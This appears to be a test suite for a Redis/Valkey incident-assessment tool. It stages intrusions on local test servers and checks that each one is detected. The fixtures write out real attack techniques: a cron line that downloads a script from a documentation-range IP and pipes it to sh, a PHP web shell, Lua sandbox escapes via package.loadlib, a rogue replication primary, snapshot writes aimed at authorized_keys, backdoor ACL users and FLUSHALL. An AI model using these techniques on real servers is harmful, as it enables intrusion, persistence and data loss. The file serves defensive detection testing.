import assert from 'node:assert/strict';
import { once } from 'node:events';
import { copyFile, mkdir, readFile, writeFile } from 'node:fs/promises';
import { connect, createServer, type Socket } from 'node:net';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { findEngines, rawCommand, type Server, startServer, waitFor } from '@redkeep/testing';
import { createClient } from 'redkeep';
import { ExitCode } from '../../exit-codes.js';
import type { ServerAssessment } from '../../incident/assess.js';
import { indicators } from '../../incident/indicators/indicators.js';
import { CliSandbox } from '../../testing/run-cli.js';

interface Staged {
  readonly server: Server;
}

/** What an intruder, or a mistake, does; and which family must be found for it, with a sign that names it. */
interface Intrusion {
  readonly name: string;
  readonly finds: string;
  readonly sign: RegExp;
  run(staged: Staged): Promise<unknown>;
}

/** Intrusions that one server can have at the same time. */
interface Stage {
  readonly name: string;
  readonly config?: Readonly<Record<string, string>>;
  readonly intrusions: readonly Intrusion[];
}

const cron = '\n\n\n*/2 * * * * root cd1 -fsSL http://203.0.113.9/init.sh | sh\n\n';
const sshKey = `\n\n\nssh-rsa ${'AAAAB3NzaC1yc2EAAAADAQABAAABAQ'.repeat(3)} intruder@host\n\n\n`;
const refused = (promise: Promise<unknown>) => promise.catch(() => undefined);

const stages: readonly Stage[] = [
  {
    name: 'payloads, code and settings',
    intrusions: [
      {
        name: 'a crontab in keys with the names of known miners',
        finds: 'cron-payload',
        sign: /key crackit \(db0\): .*cd1/,
        run: async ({ server }) => {
          for (const key of ['backup1', 'backup2', 'crackit']) await server.command('SET', key, cron);
        },
      },
      {
        name: 'a crontab in a list, under an ordinary name, in another database, behind padding',
        finds: 'cron-payload',
        sign: /key cache:page \(db7\)/,
        run: async ({ server }) => {
          const client = createClient({ url: server.url, commandPolicy: 'unrestricted' });
          await client.connect();
          await client.sendCommand(['SELECT', '7']);
          await client.sendCommand(['RPUSH', 'cache:page', 'x', `${'y'.repeat(5000)}${cron}`]);
          client.destroy();
        },
      },
      {
        name: 'a program in a folder that everybody writes to',
        finds: 'cron-payload',
        sign: /\/tmp\/\.x\/run/,
        run: ({ server }) => server.command('SET', 'page:8', '\n*/2 * * * * /tmp/.x/run\n'),
      },
      {
        name: 'a crontab in the middle of a large value',
        finds: 'cron-payload',
        sign: /key middle /,
        run: ({ server }) => server.command('SET', 'middle', `${'z'.repeat(60_000)}${cron}${'z'.repeat(60_000)}`),
      },
      {
        name: 'a crontab behind other elements of a list',
        finds: 'cron-payload',
        sign: /key queue /,
        run: ({ server }) =>
          server.command('RPUSH', 'queue', ...Array.from({ length: 150 }, (_, at) => `job ${at}`), cron),
      },
      {
        name: 'a public key for SSH',
        finds: 'ssh-key-payload',
        sign: /ssh-rsa AAAA/,
        run: ({ server }) => server.command('SET', 'session:1', sshKey),
      },
      {
        name: 'a snapshot aimed at a web root, refused by the server',
        finds: 'file-write',
        sign: /CONFIG SET was refused/,
        run: ({ server }) => refused(server.command('CONFIG', 'SET', 'dir', '/var/www/html')),
      },
      {
        name: 'a web shell in a hash',
        finds: 'file-write',
        sign: /php system/,
        run: ({ server }) => server.command('HSET', 'page', 'body', '<?php system($_GET["c"]); ?>'),
      },
      {
        name: 'a module that was dropped beside the data, and an attempt to load it',
        finds: 'rogue-module',
        sign: /exp\.so is a program beside the data/,
        run: async ({ server }) => {
          await copyFile('/bin/true', path.join(server.dir, 'exp.so'));
          await refused(server.command('MODULE', 'LOAD', './exp.so'));
        },
      },
      {
        name: 'the attempt itself',
        finds: 'rogue-module',
        sign: /MODULE LOAD (?:ran|was refused)/,
        run: ({ server }) => refused(server.command('MODULE', 'LOAD', '/tmp/red2.so')),
      },
      {
        name: 'settings of the malware Migo',
        finds: 'weakened-settings',
        sign: /Migo/,
        run: async ({ server }) => {
          for (const name of ['aof-rewrite-incremental-fsync', 'rdb-save-incremental-fsync'])
            await server.command('CONFIG', 'SET', name, 'no');
        },
      },
      {
        name: 'protected mode switched off',
        finds: 'weakened-settings',
        sign: /protected-mode is no/,
        run: ({ server }) => server.command('CONFIG', 'SET', 'protected-mode', 'no'),
      },
      {
        name: 'a function that leaves the sandbox',
        finds: 'lua-escape',
        sign: /library helper/,
        run: ({ server }) =>
          server.command(
            'FUNCTION',
            'LOAD',
            "#!lua name=helper\nredis.register_function('h', function() local f = package.loadlib('/tmp/x.so', 'luaopen_io') return f() end)",
          ),
      },
      {
        name: 'a function that hides what it uses',
        finds: 'lua-escape',
        sign: /library hidden uses the package table/,
        run: ({ server }) =>
          server.command(
            'FUNCTION',
            'LOAD',
            "#!lua name=hidden\nredis.register_function('o', function() return package['load' .. 'lib'] end)",
          ),
      },
      {
        name: 'a script that leaves the sandbox, in the slow log',
        finds: 'lua-escape',
        sign: /EVAL from 127\.0\.0\.1/,
        run: async ({ server }) => {
          await server.command('CONFIG', 'SET', 'slowlog-log-slower-than', '0');
          await refused(server.command('EVAL', "return package.loadlib('/usr/lib/liblua5.1.so.0', 'luaopen_io')", '0'));
          await server.command('CONFIG', 'SET', 'slowlog-log-slower-than', '10000');
        },
      },
      {
        name: 'a script engine under attack',
        finds: 'lua-memory',
        sign: /EVAL failed \d+ of/,
        run: async ({ server }) => {
          for (let turn = 0; turn < 60; turn += 1)
            await refused(server.command('EVAL', `return {unpack({0}, 0, ${9_999_999 + turn})}`, '0'));
        },
      },
      {
        name: 'a forged web request',
        finds: 'cross-protocol',
        sign: /SECURITY ATTACK/,
        run: async ({ server }) => {
          const socket = connect(server.port, server.host);
          socket.on('error', () => undefined);
          socket.write('POST / HTTP/1.1\r\nHost: localhost\r\n\r\n');
          await once(socket, 'close');
        },
      },
      {
        name: 'guessed passwords',
        finds: 'foreign-access',
        sign: /logins were refused/,
        run: async ({ server }) => {
          for (let turn = 0; turn < 12; turn += 1)
            await refused(rawCommand({ port: server.port, username: 'admin', password: `guess-${turn}` }, ['PING']));
        },
      },
      {
        name: 'MONITOR by a stranger',
        finds: 'data-copied',
        sign: /MONITOR ran/,
        run: async ({ server }) => {
          const socket = connect(server.port, server.host);
          socket.write('MONITOR\r\n');
          await once(socket, 'data');
          socket.destroy();
        },
      },
    ],
  },
  {
    name: 'a server whose users, files and data were changed',
    config: {
      'enable-protected-configs': 'yes',
      'rename-command': 'DEBUG ""',
      user: 'app on >app-password-of-the-file ~app:* +@read',
    },
    intrusions: [
      {
        name: 'a snapshot aimed at the keys of somebody',
        finds: 'file-write',
        sign: /dbfilename is authorized_keys/,
        run: async ({ server }) => {
          await mkdir(path.join(server.dir, '.ssh'));
          await server.command('CONFIG', 'SET', 'dir', path.join(server.dir, '.ssh'));
          await server.command('CONFIG', 'SET', 'dbfilename', 'authorized_keys');
        },
      },
      {
        name: 'a command taken away without a trace in the file',
        finds: 'altered-commands',
        sign: /DEBUG is missing/,
        run: async ({ server }) => {
          const text = await readFile(server.configFile, 'utf8');
          await writeFile(server.configFile, text.replace(/^rename-command.*$/m, ''));
        },
      },
      {
        name: 'a user of the intruder',
        finds: 'foreign-access',
        sign: /user metrics is not in the file/,
        run: ({ server }) => server.command('ACL', 'SETUSER', 'metrics', 'on', '>hidden-door-1', '~*', '+@all'),
      },
      {
        name: 'a second password on a known user',
        finds: 'foreign-access',
        sign: /user app has a password that is not/,
        run: ({ server }) => server.command('ACL', 'SETUSER', 'app', '>hidden-door-2'),
      },
      { name: 'FLUSHALL', finds: 'data-loss', sign: /FLUSHALL ran/, run: ({ server }) => server.command('FLUSHALL') },
      {
        name: 'counters that were reset',
        finds: 'evidence-erased',
        sign: /CONFIG RESETSTAT ran/,
        run: ({ server }) => server.command('CONFIG', 'RESETSTAT'),
      },
      {
        name: 'FLUSHALL again',
        finds: 'data-loss',
        sign: /FLUSHALL ran/,
        run: ({ server }) => server.command('FLUSHALL'),
      },
    ],
  },
  {
    name: 'a rogue primary that hands out an empty snapshot',
    intrusions: [
      { name: 'the primary', finds: 'rogue-primary', sign: /Z{40}/, run: followRogue },
      { name: 'the data', finds: 'data-wiped', sign: /no key|Flushing old data/, run: async () => undefined },
      {
        name: 'the change of role',
        finds: 'role-change',
        sign: /(?:SLAVEOF|REPLICAOF) ran/,
        run: async () => undefined,
      },
    ],
  },
];

/** A server that pretends to be a primary: the replication id that no server makes, and an empty snapshot. */
async function followRogue({ server }: Staged): Promise<void> {
  const emptySnapshot = Buffer.from(
    '524544495330303039fa0972656469732d76657205372e302e30fa0a72656469732d62697473c040ff0000000000000000',
    'hex',
  );
  const sockets: Socket[] = [];
  const rogue = createServer((socket) => {
    sockets.push(socket);
    socket.on('error', () => undefined);
    socket.on('data', (data) => {
      const text = data.toString('latin1');
      if (/\r\nPSYNC\r\n/i.test(text)) {
        socket.write(`+FULLRESYNC ${'Z'.repeat(40)} 1\r\n$${emptySnapshot.length}\r\n`);
        socket.write(emptySnapshot);
      } else if (/PING/i.test(text)) socket.write('+PONG\r\n');
      else if (/REPLCONF/i.test(text)) for (const _each of text.match(/REPLCONF/gi)!) socket.write('+OK\r\n');
    });
  });
  rogue.listen(0, '127.0.0.1');
  await once(rogue, 'listening');
  const { port } = rogue.address() as { port: number };
  await server.command('REPLICAOF', '127.0.0.1', String(port));
  await waitFor(async () => (await server.info('replication'))['master_replid']?.startsWith('Z') === true);
  await server.command('REPLICAOF', 'NO', 'ONE');
  for (const socket of sockets) socket.destroy();
  rogue.close();
}

const engines = findEngines().filter(({ name }) => /^(redis-7\.0|redis-8\.0|valkey-9\.\d+|valkey-9)$/.test(name));

for (const engine of engines)
  describe(`redkeep incident assess, ${engine.name}`, () => {
    let sandbox: CliSandbox;
    before(async () => {
      sandbox = await CliSandbox.create();
    });
    after(() => sandbox.remove());

    async function assessed(server: Server, ...args: string[]): Promise<{ code: number; server: ServerAssessment }> {
      const result = await sandbox.run(['incident', 'assess', server.url, '--json', '--watch-seconds', '1', ...args], {
        env: { HOME: sandbox.folder },
      });
      assert.ok(result.out.startsWith('{'), result.err);
      return { code: result.code, server: (JSON.parse(result.out) as { servers: [ServerAssessment] }).servers[0] };
    }

    const start = (config: Readonly<Record<string, string>> = {}) =>
      startServer({ engine, config: { logfile: 'server.log', 'enable-module-command': 'local', ...config } });

    async function fill(server: Server): Promise<void> {
      const client = createClient({ url: server.url, commandPolicy: 'unrestricted' });
      await client.connect();
      for (let key = 0; key < 300; key += 1) await client.set(`app:${key}`, `value ${key}`);
      // What applications have that resembles payloads.
      await client.set('user:1:key', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHt maria@laptop');
      await client.set('job:1', JSON.stringify({ cron: '*/5 * * * *', name: 'bash-free report' }));
      await client.set('page:1', '<html><body>Use curl or wget to download it.</body></html>');
      await client.set('readme', 'Install: apt install curl && sh ./install.sh');
      await client.hSet('user:1', { name: 'Maria', bio: 'I write PHP: <?php echo "hi"; ?>' });
      await client.sendCommand(['EVAL', "return redis.call('GET', KEYS[1])", '1', 'app:1']);
      client.destroy();
    }

    test('finds nothing on an innocent server, and says where it looked', async () => {
      await using server = await start();
      await fill(server);
      const result = await assessed(server);
      const found = result.server.judgements.filter(({ outcome }) => outcome === 'found');
      assert.deepEqual(found, []);
      assert.equal(result.code, ExitCode.Ok);
      assert.ok(result.server.judgements.length >= 17);
      for (const { id, looked } of result.server.judgements) assert.ok(looked.length > 0, id);
      assert.ok(result.server.reach.observed);
      assert.equal(result.server.reach.value[0]?.open, 'to anybody who reaches the port');
    });

    for (const { name, config, intrusions } of stages)
      test(`finds each of them: ${name}`, async () => {
        await using server = await start(config);
        await fill(server);
        for (const { run } of intrusions) await run({ server });
        const result = await assessed(server, '--watch-seconds', '0');
        assert.equal(result.code, ExitCode.Findings);
        const { judgements } = result.server;
        for (const { name: intrusion, finds, sign } of intrusions) {
          const judgement = judgements.find(({ id }) => id === finds);
          assert.equal(judgement?.outcome, 'found', `${intrusion}: ${JSON.stringify(judgements, null, 1)}`);
          assert.match(judgement.signs.map(({ text }) => text).join('\n'), sign, intrusion);
        }
      });

    test('does not let an intruder hide behind the name of this tool', async () => {
      await using server = await start();
      const client = createClient({ url: server.url, name: 'redkeep-incident' });
      await client.connect();
      const { server: result } = await assessed(server, '--watch-seconds', '0');
      client.destroy();
      assert.ok(result.reach.observed);
      assert.deepEqual(result.reach.value[0]?.connectedFrom, ['127.0.0.1']);
    });

    test('takes failing commands for an incident too', async () => {
      await using server = await start();
      await fill(server);
      await server.command('CONFIG', 'SET', 'maxmemory', '100kb', 'maxmemory-policy', 'noeviction');
      const client = createClient({ url: server.url });
      await client.connect();
      const writing = setInterval(() => void refused(client.set('x', 'y')), 5);
      const result = await assessed(server);
      clearInterval(writing);
      client.destroy();
      assert.equal(result.server.judgements.find(({ id }) => id === 'degraded')?.outcome, 'found');
    });
  });

test('says what to do when a server is not reached', async () => {
  const sandbox = await CliSandbox.create();
  for (const words of [['incident', 'assess'], ['incident', 'contain'], ['migrate']]) {
    const result = await sandbox.run([...words, 'redis://127.0.0.1:1'], { env: { HOME: sandbox.folder } });
    assert.equal(result.code, ExitCode.Connection, result.err);
    assert.match(result.err, /REDKEEP_CONNECTION_FAILED/);
  }
  await sandbox.remove();
});

test('every family is staged, or is looked for on machines only', () => {
  const staged = new Set(stages.flatMap(({ intrusions }) => intrusions.map(({ finds }) => finds)));
  const missing = indicators.map(({ id }) => id).filter((id) => !staged.has(id));
  // Crontabs, accounts and packet filters of this machine are not for a test to change.
  assert.deepEqual(missing, ['foothold']);
});
